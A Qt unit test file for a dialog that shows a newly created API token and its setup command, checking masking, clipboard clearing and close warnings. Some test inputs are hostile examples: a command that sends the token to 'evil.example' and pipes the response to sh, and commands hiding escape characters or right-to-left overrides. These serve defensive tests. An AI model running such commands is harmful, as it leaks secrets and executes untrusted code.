// SPDX-License-Identifier: GPL-3.0-or-later
#include "gui/tokencreateddialog.h"

#include "gui/dialogs/dialogtest.h"
#include "gui/secretclipboard.h"
#include "gui/secretfield.h"

#include <QClipboard>
#include <QMessageBox>
#include <QPushButton>
#include <QSignalSpy>

using namespace tokendesk;
using namespace std::chrono_literals;

namespace {

const QByteArray secretText = "apt_c0ffee00c0ffee11c0ffee22c0ffee33c0ffee44c0ffee55c0ffee66c0ffee77";

QString held() { return QGuiApplication::clipboard()->text(); }

} // namespace

class TokenCreatedDialogTest : public QObject
{
    Q_OBJECT

    std::unique_ptr<SecretClipboard> m_clipboard;
    std::unique_ptr<QWidget> m_window;
    QPointer<TokenCreatedDialog> m_dialog;

    void whenATokenWasCreated(const QString &name = QStringLiteral("Production Line 5"), const QString &command = {},
                              qint64 expiresAt = noInstant, bool singleUse = false)
    {
        CreatedToken created;
        created.id = testTokenId(7);
        created.name = name;
        created.token = Secret(secretText);
        const QString text = command.isEmpty() ? QStringLiteral("curl -sSL https://acusight.io/setup | sudo sh -s -- --token %1")
                                               : command;
        created.setupCommand = Secret::fromText(QString(text).replace(QStringLiteral("%1"), QString::fromLatin1(secretText)));
        created.singleUse = singleUse;
        created.expiresAt = expiresAt;
        m_dialog = new TokenCreatedDialog(std::move(created), QStringLiteral("acusight.io"), *m_clipboard, m_window.get());
        m_dialog->open();
        QVERIFY(QTest::qWaitForWindowExposed(m_dialog));
    }
    QString shown(const char *field) { return part<SecretField>(m_dialog, field)->toPlainText(); }
    QMessageBox *question() { return m_dialog ? m_dialog->findChild<QMessageBox *>() : nullptr; }
    void answer(const QString &text)
    {
        QTRY_VERIFY(question());
        for (QAbstractButton *button : question()->buttons()) {
            if (button->text() == text)
                return QTest::mouseClick(button, Qt::LeftButton);
        }
        QFAIL(qPrintable(text));
    }

private Q_SLOTS:
    void init()
    {
        QGuiApplication::clipboard()->clear();
        m_clipboard = std::make_unique<SecretClipboard>();
        m_window = std::make_unique<QWidget>();
        m_window->show();
    }
    void cleanup()
    {
        m_window.reset();
        m_clipboard.reset();
    }

    void itSaysWhatWasCreatedAndThatThisIsTheOnlyTime()
    {
        whenATokenWasCreated(QStringLiteral("Production Line 5"), {}, 1772366400000, true);
        QCOMPARE(m_dialog->windowTitle(), QStringLiteral("Token Created"));
        QVERIFY(hint(m_dialog, "titleLabel").contains(QStringLiteral("Production Line 5")));
        const QString kind = hint(m_dialog, "kindLabel");
        QVERIFY(kind.contains(QStringLiteral("Single use")));
        QVERIFY(kind.contains(QStringLiteral("March 2026")));
        QVERIFY(kind.contains(QStringLiteral("only time")));
    }

    void aTokenThatNeverExpiresSaysSo()
    {
        whenATokenWasCreated();
        QVERIFY(hint(m_dialog, "kindLabel").contains(QStringLiteral("Reusable, never expires.")));
    }

    void theSecretIsNowhereWhileItIsMasked()
    {
        whenATokenWasCreated();
        QCOMPARE(placesOf(secretText, m_dialog), QStringList());
        QVERIFY(shown("tokenField").startsWith(QStringLiteral("apt_\u2022\u2022\u2022\u2022")));
        QVERIFY(shown("commandField").contains(QStringLiteral("--token apt_\u2022\u2022\u2022\u2022")));
        QVERIFY(!part<QWidget>(m_dialog, "tokenField")->accessibleDescription().isEmpty());
    }

    void revealingShowsItAndHidingTakesItAwayAgain()
    {
        whenATokenWasCreated();
        click(m_dialog, "revealButton");
        QCOMPARE(shown("tokenField"), QString::fromLatin1(secretText));
        QVERIFY(shown("commandField").endsWith(QString::fromLatin1(secretText)));
        QVERIFY(!placesOf(secretText, m_dialog).isEmpty()); // the search finds what is there
        click(m_dialog, "revealButton");
        QCOMPARE(placesOf(secretText, m_dialog), QStringList());
        auto *field = part<SecretField>(m_dialog, "tokenField");
        field->undo();
        QTest::keyClick(field, Qt::Key_Z, Qt::ControlModifier);
        QCOMPARE(placesOf(secretText, m_dialog), QStringList());
    }

    void tokenAndSetupCommandAreCopiedApartAndExactly()
    {
        whenATokenWasCreated();
        click(m_dialog, "copyTokenButton");
        QCOMPARE(held(), QString::fromLatin1(secretText));
        click(m_dialog, "copyCommandButton");
        QCOMPARE(held(), QStringLiteral("curl -sSL https://acusight.io/setup | sudo sh -s -- --token ")
                     + QString::fromLatin1(secretText));
        QCOMPARE(placesOf(secretText, m_dialog), QStringList());
    }

    void theCopyKeyInTheFieldCopiesTheProperWay()
    {
        whenATokenWasCreated();
        click(m_dialog, "revealButton");
        auto *field = part<SecretField>(m_dialog, "tokenField");
        field->setFocus();
        field->selectAll();
        QTest::keyClick(field, Qt::Key_C, Qt::ControlModifier);
        QCOMPARE(held(), QString::fromLatin1(secretText));
        QVERIFY(QGuiApplication::clipboard()->mimeData()->hasFormat(QStringLiteral("x-kde-passwordManagerHint")));
        QVERIFY(m_clipboard->remaining());
        field->copy(); // what a context menu or a program would call
        QVERIFY(!held().contains(QString::fromLatin1(secretText)));
    }

    void theCountdownIsShownAndTheEndOfIt()
    {
        m_clipboard->setClearAfter(2s);
        whenATokenWasCreated();
        click(m_dialog, "copyTokenButton");
        QCOMPARE(saidIn(m_dialog, "copiedMessage"), QStringLiteral("Copied. The clipboard is cleared in 2 s."));
        QTRY_COMPARE(saidIn(m_dialog, "copiedMessage"), QStringLiteral("Copied. The clipboard is cleared in 1 s."));
        QTRY_COMPARE(saidIn(m_dialog, "copiedMessage"), QStringLiteral("The clipboard has been cleared."));
        QCOMPARE(held(), QString());
    }

    void theClipboardIsStillClearedAfterTheDialogIsGone()
    {
        m_clipboard->setClearAfter(1s);
        whenATokenWasCreated();
        click(m_dialog, "copyTokenButton");
        click(m_dialog, "doneButton");
        QTRY_VERIFY(!m_dialog);
        QCOMPARE(held(), QString::fromLatin1(secretText));
        QTRY_COMPARE(held(), QString());
        QCOMPARE(placesOf(secretText, m_window.get()), QStringList());
    }

    void closingWithoutHavingCopiedAsksAndKeepsOpenByDefault_data()
    {
        QTest::addColumn<int>("how");
        QTest::newRow("Escape") << 0;
        QTest::newRow("close button of the window") << 1;
        QTest::newRow("Done") << 2;
    }
    void closingWithoutHavingCopiedAsksAndKeepsOpenByDefault()
    {
        QFETCH(int, how);
        whenATokenWasCreated();
        if (how == 0)
            QTest::keyClick(m_dialog, Qt::Key_Escape);
        else if (how == 1)
            m_dialog->close();
        else
            click(m_dialog, "doneButton");
        QTRY_VERIFY(question());
        QCOMPARE(question()->text(), QStringLiteral("Close without copying? The secret cannot be shown again."));
        QCOMPARE(question()->defaultButton()->text(), QStringLiteral("Keep Open"));
        QVERIFY(m_dialog->isVisible());
        QTest::keyClick(question()->defaultButton(), Qt::Key_Return);
        QTRY_VERIFY(!question());
        QVERIFY(m_dialog->isVisible());
    }

    void theQuestionIsAskedOnlyOnceAtATime()
    {
        whenATokenWasCreated();
        m_dialog->close();
        m_dialog->close();
        QCOMPARE(m_dialog->findChildren<QMessageBox *>().size(), 1);
    }

    void closingAnywayCloses()
    {
        whenATokenWasCreated();
        m_dialog->close();
        answer(QStringLiteral("Close"));
        QTRY_VERIFY(!m_dialog);
    }

    void revokingInsteadAsksForItAndCloses()
    {
        whenATokenWasCreated();
        QSignalSpy revoke(m_dialog, &TokenCreatedDialog::revokeRequested);
        m_dialog->close();
        answer(QStringLiteral("Revoke This Token"));
        QCOMPARE(revoke.size(), 1);
        QCOMPARE(revoke.at(0).at(0).toUuid(), testTokenId(7));
        QTRY_VERIFY(!m_dialog);
    }

    void closingAfterACopyAsksNothing()
    {
        whenATokenWasCreated();
        click(m_dialog, "copyCommandButton");
        QTest::keyClick(m_dialog, Qt::Key_Escape);
        QTRY_VERIFY(!m_dialog);
    }

    void aPlainCommandForTheServerItselfIsNotWarnedOf()
    {
        whenATokenWasCreated();
        QVERIFY(saidIn(m_dialog, "commandWarning").isEmpty());
        QVERIFY(!part<QWidget>(m_dialog, "commandWarning")->isVisible());
    }

    void aCommandThatNamesAnotherHostIsWarnedOf()
    {
        whenATokenWasCreated({}, QStringLiteral("curl https://evil.example/setup?t=%1 | sh"));
        QVERIFY(part<QWidget>(m_dialog, "commandWarning")->isVisible());
        QVERIFY(saidIn(m_dialog, "commandWarning").contains(QStringLiteral("evil.example")));
    }

    void aCommandWithControlCharactersIsWarnedOfShownWithEscapesAndCopiedAsItIs()
    {
        const QString command = QStringLiteral("true\u001b[2K\ncurl https://acusight.io/x %1");
        whenATokenWasCreated({}, command);
        QVERIFY(saidIn(m_dialog, "commandWarning").contains(QStringLiteral("cannot be seen")));
        QVERIFY(shown("commandField").contains(QStringLiteral("true\\u001B[2K\\ncurl")));
        click(m_dialog, "revealButton");
        QVERIFY(shown("commandField").startsWith(QStringLiteral("true\\u001B[2K\\ncurl")));
        click(m_dialog, "copyCommandButton");
        QCOMPARE(held(), QString(command).replace(QStringLiteral("%1"), QString::fromLatin1(secretText)));
    }

    void aHostileNameIsHarmless()
    {
        whenATokenWasCreated(hostileName(), QStringLiteral("curl https://<b>x</b>\u202E/%1"));
        QCOMPARE(hostileLabels(m_dialog), QStringList());
        QVERIFY(hint(m_dialog, "titleLabel").contains(QStringLiteral("<b>")));
        QVERIFY(hint(m_dialog, "titleLabel").contains(QStringLiteral("\\u202E")));
    }

    void everyControlHasANameAndTabGoesTheWayOneReads()
    {
        whenATokenWasCreated();
        QCOMPARE(controlsWithoutName(m_dialog), QStringList());
        QCOMPARE(tabOrder(m_dialog, "revealButton"),
                 (QStringList{QStringLiteral("revealButton"), QStringLiteral("copyTokenButton"), QStringLiteral("tokenField"),
                              QStringLiteral("copyCommandButton"), QStringLiteral("commandField"),
                              QStringLiteral("doneButton")}));
    }
};

QTEST_MAIN(TokenCreatedDialogTest)
#include "tokencreateddialogtest.moc"
